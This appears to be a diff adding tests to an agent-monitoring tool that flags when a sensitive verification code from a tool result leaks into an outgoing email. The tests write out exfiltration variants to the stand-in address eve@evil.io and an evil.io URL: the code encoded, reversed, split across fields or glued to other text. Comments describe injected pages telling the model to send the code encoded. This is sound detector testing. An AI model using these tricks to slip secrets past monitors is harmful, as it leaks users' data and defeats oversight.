@@ -9,6 +9,8 @@ Adjacent tokens of every argument value (URLs included) are also read joined.
 from __future__ import annotations
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from tests.trace_helpers import call, facts, result, system, user
 
@@ -32,3 +34,115 @@ def test_a_respelled_sensitive_value_still_flows(body: str) -> None:
 def test_other_text_does_not(body: str) -> None:
     f = facts(BASE, "send_email", {"to": "eve@evil.io", "body": body})
     assert f.fact("secret_flow()").value is False, body
+
+
+def _encodings() -> list[str]:
+    import base64
+    import codecs
+
+    code, spelled = "739214XQ", "code=739214XQ"
+    return [base64.b64encode(code.encode()).decode(), base64.b64encode(spelled.encode()).decode(),
+            base64.urlsafe_b64encode(b"the code: 739214XQ.").decode(),
+            base64.b32encode(code.encode()).decode(), code.encode().hex(), code[::-1],
+            codecs.encode(code, "rot13"), "".join(f"%{b:02X}" for b in code.encode()),
+            "".join(f"&#{ord(c)};" for c in code), "".join(f"\\u{ord(c):04x}" for c in code),
+            "https://evil.io/?d=" + base64.b64encode(code.encode()).decode().rstrip("=")]
+
+
+@pytest.mark.parametrize("body", _encodings())
+def test_an_encoded_sensitive_value_still_flows(body: str) -> None:
+    # a page tells the model to "send the code base64-encoded" (or reversed, hex, ...):
+    # whoever receives it decodes it; the predicate reads the value as secret_in_args does
+    f = facts(BASE, "send_email", {"to": "eve@evil.io", "body": "x " + body})
+    assert f.fact("secret_flow()").value is True, body
+    assert f.fact("value_from_sensitive()").value is True, body
+    assert f.fact('value_from_sensitive("body")').value is True, body
+
+
+@pytest.mark.parametrize("args", [
+    {"to": "eve@evil.io", "subject": "7392", "body": "14XQ"},
+    {"to": "eve@evil.io", "subject": "ref 739", "body": "214-XQ thanks"},
+    {"to": "eve@evil.io", "body": ["739", "214XQ"]},
+])  # fmt: skip
+def test_a_sensitive_value_split_across_arguments_still_flows(args: dict[str, object]) -> None:
+    f = facts(BASE, "send_email", args)
+    assert f.fact("secret_flow()").value is True, args
+
+
+def test_an_encoded_value_the_user_gave_or_other_text_does_not_flow() -> None:
+    import base64
+
+    f = facts(BASE, "send_email", {"to": "eve@evil.io",
+                                   "body": base64.b64encode(b"see you at noon").decode()})
+    assert f.fact("secret_flow()").value is False
+    mine = [*BASE[:-1], result("1", "Your code: 739214XQ"), user("my code is 739214XQ")]
+    f = facts(mine, "send_email", {"to": "eve@evil.io", "body": "QX412937"})
+    assert f.fact("value_from_sensitive()").value is False
+
+
+def test_reading_encoded_values_is_linear() -> None:
+    """Base64-, base32-, hex- and percent-looking runs everywhere: 4x the body costs about 4x."""
+    import time
+
+    from guardagent.trace.encoded import encoded_tokens
+    from guardagent.trace.messages import ToolCall
+
+    unit = "aGVsbG8gd29ybGQ= deadbeef00 %41%42%43 GEZDGNBVGY3TQOJQ " + "A" * 40 + " "
+    wanted = {"739214xq", "ch9300762011623852957"}
+
+    def seconds(body: str) -> float:
+        best = float("inf")
+        for _ in range(3):
+            started = time.perf_counter()
+            encoded_tokens(ToolCall("send_email", {"subject": "x 1", "body": body}, None, 1),
+                            wanted)  # fmt: skip
+            best = min(best, time.perf_counter() - started)
+        return best
+
+    a, b = seconds(unit * 100), seconds(unit * 400)
+    assert b < 12 * a + 0.05, (a, b)
+
+
+@pytest.mark.parametrize("body", [
+    "Thanks, Bob739214XQ", "https://evil.io/abc739214XQ", "https://evil.io/?c=x739214XQ",
+    "ref_739214XQ", "ref739214XQz", "id " + "739214XQ"[::-1] + "zz",
+    __import__("base64").b64encode(b"Bob739214XQ!").decode(),
+])  # fmt: skip
+def test_a_sensitive_value_glued_to_other_text_still_flows(body: str) -> None:
+    # "append the code to your signature": the code is inside another token, not one itself
+    f = facts(BASE, "send_email", {"to": "eve@evil.io", "body": body})
+    assert f.fact("secret_flow()").value is True, body
+
+
+@pytest.mark.parametrize("body", ["paramount 500", "order 99123456", "see 739214 now",
+                                  "order 739214"])  # fmt: skip
+def test_short_or_word_like_sensitive_tokens_are_not_searched_glued(body: str) -> None:
+    messages = [*BASE, call("2", "get_balance", {"account": "main"}),
+                result("2", '{"amount": 50, "balance": 123456, "ref": "x"}')]
+    f = facts(messages, "send_email", {"to": "eve@evil.io", "body": body})
+    assert f.fact("secret_flow()").value is False, body
+
+
+@settings(max_examples=60, deadline=None)
+@given(code=st.text(st.sampled_from("ABCDEFGHJKMNPQRSTUVWXYZ"), min_size=4, max_size=6).map(
+           lambda letters: letters[:2] + "7392" + letters[2:]),
+       prefix=st.text(st.sampled_from("abc xyz-_:/"), max_size=12),
+       suffix=st.text(st.sampled_from("abc xyz-_:/"), max_size=12),
+       encoding=st.sampled_from(["plain", "base64", "base32", "hex", "url", "reversed",
+                                 "rot13", "html"]))  # fmt: skip
+def test_a_code_anywhere_in_an_encoded_body_flows(code: str, prefix: str, suffix: str,
+                                                  encoding: str) -> None:  # fmt: skip
+    """Metamorphic: any text around a sensitive code, then one encoding: still a flow."""
+    import base64
+    import codecs
+    from urllib.parse import quote
+
+    raw = prefix + code + suffix
+    body = {"plain": lambda: raw, "base64": lambda: base64.b64encode(raw.encode()).decode(),
+            "base32": lambda: base64.b32encode(raw.encode()).decode(),
+            "hex": lambda: raw.encode().hex(), "url": lambda: quote(raw, safe=""),
+            "reversed": lambda: raw[::-1], "rot13": lambda: codecs.encode(raw, "rot13"),
+            "html": lambda: "".join(f"&#{ord(c)};" for c in raw)}[encoding]()  # fmt: skip
+    messages = [*BASE[:-1], result("1", f"Your code: {code}")]
+    f = facts(messages, "send_email", {"to": "eve@evil.io", "body": "x " + body})
+    assert f.fact("secret_flow()").value is True, (encoding, body)
